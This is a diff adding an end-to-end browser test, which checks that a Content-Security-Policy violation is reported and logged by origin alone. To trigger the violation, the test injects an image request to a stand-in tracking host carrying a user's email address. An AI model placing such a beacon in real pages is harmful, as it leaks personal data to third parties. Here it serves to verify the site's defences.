@@ -158,6 +158,25 @@ test('shared links to public pages have a preview image', async ({ page }) => {
   }
 })
 
+test('a violation of a page’s policy is reported by the browser and counted by its origin alone', async ({
+  page,
+  db,
+  consoles,
+}) => {
+  await page.goto('/')
+  await page.evaluate(`new Image().src = 'https://pixel.example/anna.gif?email=anna@persone.example'`)
+  const counted = () =>
+    db
+      .selectFrom('csp_report_day')
+      .select(['directive', 'blocked', 'count'])
+      .where('blocked', 'like', '%pixel%')
+      .execute()
+  await expect.poll(counted).toEqual([{ directive: 'img-src', blocked: 'https://pixel.example', count: 1 }])
+  // The browser's own message, and the line that all journeys write of a violation.
+  for (const error of consoles.consoleErrors) expect(error).toContain('img-src')
+  consoles.expected.push(...consoles.consoleErrors)
+})
+
 /** Waits until React has hydrated the page. */
 async function waitForHydration(page: Page): Promise<void> {
   await expect
